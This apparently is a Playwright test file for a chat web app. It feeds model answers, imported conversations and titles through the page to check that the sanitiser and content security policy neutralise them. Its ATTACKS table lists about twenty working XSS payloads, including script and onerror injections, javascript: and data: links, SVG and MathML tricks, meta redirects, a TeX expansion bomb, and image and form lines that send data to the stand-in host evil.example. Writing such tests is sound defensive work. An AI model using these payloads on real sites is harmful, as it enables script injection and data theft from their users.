"""What a model says does nothing but stand there. The `visit` fixture fails a test in which the page asks another host for
anything, opens a dialog, or breaks its content security policy: the sanitising holds before the policy has to."""

import json

from playwright.sync_api import expect

from .fake_openai import Reply, cut

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "remote picture": "![leak](https://evil.example/?q=secret)",
    "reference picture": "![leak][1]\n\n[1]: https://evil.example/pixel.png",
    "javascript link": "[click](javascript:alert(1)) and [two](JaVaScRiPt&colon;alert(1)) and <javascript:alert(1)>",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![p](data:image/svg+xml,<svg onload=alert(1)>)",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "form": "<form action=https://evil.example><input name=q><button>Go</button></form>",
    "style": "<style>@import 'https://evil.example/x.css'; body{display:none}</style><p style='position:fixed;inset:0'>over</p>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=https://evil.example></object><embed src=x>",
    "base and meta": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "clobbering": "<a id=app name=body>x</a><img name=cookie><form id=documentElement></form>",
    "tex": r"$\href{javascript:alert(1)}{x}$ $\includegraphics{https://evil.example/a.png}$ $\htmlData{x=y}{z}$ $\url{javascript:alert(1)}$",
    "tex bomb": r"$\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{\a\a}\a$ $\rule{9999em}{9999em}$",
    "link in title": '[x](https://ok.example "\'><img src=x onerror=alert(1)>")',
    "language": '```"><img/src=x/onerror=alert(1)>\ncode\n```',
    "autolink": "<https://evil.example/'onmouseover='alert(1)>",
    "table": "| <img src=x onerror=alert(1)> | b |\n|--|--|\n| <script>alert(1)</script> | ![x](//evil.example/y) |",
    "unclosed": "<img src=x onerror=alert(1) <b>never closed **bold",
}
FORBIDDEN = "script, style, img, iframe, object, embed, form, input, base, meta, link, video, audio, [onerror], [onload], [srcdoc]"


def conversation(answers: list[str]) -> str:
    """A file of one conversation with these answers, as the page exports it."""
    nodes = {}
    for n, text in enumerate(answers):
        nodes[f"q{n}"] = {
            "id": f"q{n}",
            "parent": f"a{n - 1}" if n else None,
            "role": "user",
            "text": "?",
            "children": [f"a{n}"],
        }
        tokens = [{"t": token, "lp": -0.1, "top": [[token, -0.1], [text, -3]]} for token in cut(text)]
        following = [f"q{n + 1}"] if n + 1 < len(answers) else []
        nodes[f"a{n}"] = {
            "id": f"a{n}",
            "parent": f"q{n}",
            "role": "assistant",
            "text": text,
            "tokens": tokens,
            "children": following,
        }
    choice = {node["parent"] or "": name for name, node in nodes.items()}
    one = {"id": "c", "title": "<img src=x onerror=alert(1)>", "roots": ["q0"], "nodes": nodes, "choice": choice}
    return json.dumps({"format": "dunwu-conversations", "version": 1, "conversations": [one]})


def test_hostile_answers_do_nothing(visit, fake):
    """Each alone, out of an imported file; then all together, streamed."""
    one = visit()
    file = {"name": "c.json", "mimeType": "application/json", "buffer": conversation(list(ATTACKS.values())).encode()}
    one.page.locator("input[type=file]").set_input_files(file)
    one.page.locator(".past-open").click()
    log = one.page.locator(".log")
    expect(log.locator(".answer")).to_have_count(len(ATTACKS))
    links = log.locator("a").evaluate_all(
        "all => all.map(a => [a.protocol, a.target, a.rel, a.getAttributeNames().sort().join()])"
    )
    assert {tuple(link) for link in links} == {("https:", "_blank", "noopener noreferrer nofollow", "href,rel,target")}
    expect(log.locator(FORBIDDEN)).to_have_count(0)
    expect(log.locator("svg:not(.icon):not(.katex svg)")).to_have_count(0)
    one.page.locator(".think-toggle").click()
    expect(log.locator(".tok").first).to_be_visible()
    log.locator("[data-i='0']").first.click()  # the whole attack as an alternative
    expect(log.locator(".alternatives")).to_be_visible()
    expect(log.locator(FORBIDDEN)).to_have_count(0)
    one.page.keyboard.press("Alt+t")
    one.page.keyboard.press("Alt+n")
    fake.replies["all"] = Reply(text="\n\n".join(ATTACKS.values()))
    one.ask("all")
    expect(log.locator(FORBIDDEN)).to_have_count(0)
    one.page.wait_for_timeout(200)  # time for anything that was to fire
    assert one.page.locator(".composer").is_visible()


def test_pictures_become_links_that_name_their_host(visit, fake):
    fake.replies["Go"] = Reply(
        text="![a cat](https://evil.example/cat.png) [bank](https://bank.example@evil.example/login)"
    )
    one = visit()
    one.ask("Go")
    expect(one.page.locator(".answer a")).to_have_text(["▧ a cat", "bank"])
    expect(one.page.locator(".answer .host")).to_have_text(["(evil.example)", "(evil.example)"])


def test_raw_markup_is_shown_as_text(visit, fake):
    fake.replies["Go"] = Reply(text="Use <b>bold</b> and <script>alert(1)</script>.")
    one = visit()
    one.ask("Go")
    expect(one.page.locator(".answer .markdown")).to_have_text("Use <b>bold</b> and <script>alert(1)</script>.")


def test_titles_models_and_errors_are_text(visit, fake):
    fake.models = ("<img src=x onerror=alert(1)>",)
    one = visit()
    one.ask("<img src=x onerror=alert(2)>")
    expect(one.page.locator(".past-open")).to_have_text("<img src=x onerror=alert(2)>")
    expect(one.page.locator("img")).to_have_count(0)


def test_the_policy_stands_behind_the_sanitiser(visit, fake):
    one = visit()
    outcome = one.page.evaluate(
        """() => {
          const tried = {};
          try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); tried.markup = 'done'; } catch (error) { tried.markup = error.name; }
          return tried;
        }"""
    )
    assert outcome["markup"] == "TypeError"
    one.page.evaluate("violations.length = 0")  # this one was meant
    one.complaints.clear()
